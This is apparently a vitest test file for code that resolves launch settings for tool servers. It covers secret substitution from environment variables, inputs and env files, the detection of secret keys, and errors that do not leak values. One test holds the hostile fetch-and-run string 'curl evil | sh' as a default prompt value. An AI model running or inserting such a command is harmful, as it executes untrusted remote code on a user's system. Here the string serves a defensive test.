import { describe, expect, it } from 'vitest';
import { defineServer } from '../../../../src/core/servers/identity.ts';
import { filledIn, type LaunchSource, resolveLaunch } from '../../../../src/core/servers/launch.ts';
import { defineDeps, entryOf, http, stdio } from './fakes.ts';

const source = (more: Partial<LaunchSource> = {}): LaunchSource => ({
  env: (name) => ({ TOKEN: 'secret-token', EMPTY: '' })[name],
  input: (id) => Promise.resolve({ key: 'secret-key' }[id]),
  envFile: () => Promise.resolve({ digest: 'digest', variables: { FROM_FILE: 'file-secret', BOTH: 'file' } }),
  ...more,
});
const launch = async (settings: ReturnType<typeof stdio>, from = source()) =>
  resolveLaunch(await defineServer(entryOf(settings), defineDeps), from);

describe('a launch', () => {
  it('has the secrets in, and knows which they are', async () => {
    const { launch: made, secrets } = await launch(
      stdio({
        args: ['--key', '${input:key}', '${env:EMPTY}'],
        env: { A: 'x-${env:TOKEN}', BOTH: 'own', GONE: null },
        envFile: '/e/.env',
        cwd: '/srv',
      }),
    );
    expect(made).toEqual({
      type: 'stdio',
      command: 'node',
      args: ['--key', 'secret-key', ''],
      env: { FROM_FILE: 'file-secret', BOTH: 'own', A: 'x-secret-token' },
      removeEnv: ['GONE'],
      cwd: '/srv',
    });
    expect([...secrets].sort()).toEqual(['file', 'file-secret', 'secret-key', 'secret-token']);
  });

  it('never starts from a text that nobody can see', () => {
    const input = { type: 'promptString', id: 'user', default: 'curl evil | sh' } as const;
    expect(filledIn({ ...input, password: false })).toEqual({ value: 'curl evil | sh' });
    expect(filledIn({ ...input, password: true })).toEqual({});
    expect(filledIn({ ...input, id: 'apiKey', password: false })).toEqual({});
  });

  it('knows that what was chosen from a list is no secret, unless its name says so', async () => {
    const inputs = [
      { type: 'pickString', id: 'region', options: [{ label: 'eu', value: 'europe-1' }] },
      { type: 'promptString', id: 'user', password: false },
      { type: 'promptString', id: 'apiKey', password: false },
      { type: 'command', id: 'port', command: 'other.port' },
    ] as const;
    const args = inputs.map(({ id }) => `\${input:${id}}`);
    const definition = await defineServer(entryOf(stdio({ args }), { inputs }), defineDeps);
    const { secrets, keys } = await resolveLaunch(
      definition,
      source({ input: (id) => Promise.resolve(`${id}-value`) }),
    );
    expect([...secrets].sort()).toEqual(['apiKey-value', 'port-value']);
    expect([...keys].sort()).toEqual(['apiKey-value', 'port-value']);
  });

  it('tells what is a key by its name, also where it stands in the settings as it is', async () => {
    const { secrets, keys } = await launch(
      stdio({
        args: ['${env:TOKEN}', '${input:key}'],
        env: {
          API_KEY: 'literal-key',
          MODE: 'ordinary',
          KEYBOARD: 'portuguese',
          AUTH_SOCK: '/run/a-1',
          HOME_COPY: '${env:PLACE}',
        },
        envFile: '/e/.env',
      }),
      source({
        env: (name) => ({ TOKEN: 'secret-token', PLACE: '/home/ann' })[name],
        envFile: () => Promise.resolve({ digest: 'digest', variables: { DB_PASSWORD: 'file-pass', PORT: '80' } }),
      }),
    );
    expect([...keys].sort()).toEqual(['file-pass', 'literal-key', 'secret-key', 'secret-token']);
    expect([...secrets].sort()).toEqual(['/home/ann', '80', 'file-pass', 'literal-key', 'secret-key', 'secret-token']);
    const headers = { Authorization: 'Token literal-token', Cookie: 'sid=literal-sid', Accept: 'text/plain' };
    const http1 = await launch(http({ headers }));
    expect([...http1.keys].sort()).toEqual(['Token literal-token', 'literal-token', 'sid=literal-sid']);
  });

  it('puts each value in as it is: what looks like a variable in it is none', async () => {
    const from = source({ env: () => '${input:key}' });
    expect((await launch(stdio({ args: ['${env:A}'] }), from)).launch).toMatchObject({ args: ['${input:key}'] });
  });

  it('has URL and headers for HTTP', async () => {
    const { launch: made } = await launch(http({ headers: { Authorization: 'Bearer ${input:key}' } }));
    expect(made).toEqual({
      type: 'http',
      url: 'https://mcp.example.com/mcp',
      headers: { Authorization: 'Bearer secret-key' },
    });
  });

  it.each([
    [stdio({ args: ['${env:NOPE}'] }), 'connection', 'The environment variable NOPE is not set.'],
    [stdio({ args: ['${input:nope}'] }), 'cancelled', 'The input “nope” was not given.'],
    [stdio({ cwd: '${env:TOKEN}' }), 'connection', 'is not an absolute path'],
    [http({ url: '${env:TOKEN}' }), 'connection', 'is not a valid one'],
    [http({ url: 'file:///x' }), 'connection', 'not file://'],
    [http({ url: 'https://u:p@h/' }), 'connection', 'write an Authorization header'],
  ])('says what is missing: %#', async (settings, kind, words) => {
    await expect(launch(settings)).rejects.toMatchObject({ kind, message: expect.stringContaining(words) as string });
  });

  it('uses the environment file that was confirmed and no other', async () => {
    const changed = source({ envFile: () => Promise.resolve({ digest: 'new', variables: {} }) });
    await expect(launch(stdio({ envFile: '/e' }), changed)).rejects.toThrow('has just changed');
    const missing = source({ envFile: () => Promise.resolve(undefined) });
    await expect(launch(stdio({ envFile: '/e' }), missing)).rejects.toThrow('cannot be read');
    const behind = source({ ...changed, env: () => '/etc/app' });
    await expect(launch(stdio({ envFile: '${env:CONFIG}/.env' }), behind)).rejects.toThrow('has just changed');
  });

  it('fails without showing what stood behind a reference', async () => {
    const hidden = source({ env: () => 'secret-token', envFile: () => Promise.resolve(undefined) });
    for (const settings of [stdio({ cwd: '${env:A}' }), stdio({ envFile: '${env:A}' })]) {
      const error: unknown = await launch(settings, hidden).catch((reason: unknown) => reason);
      expect(String(error)).toContain('${env:A}');
      expect(String(error)).not.toContain('secret');
    }
  });
});
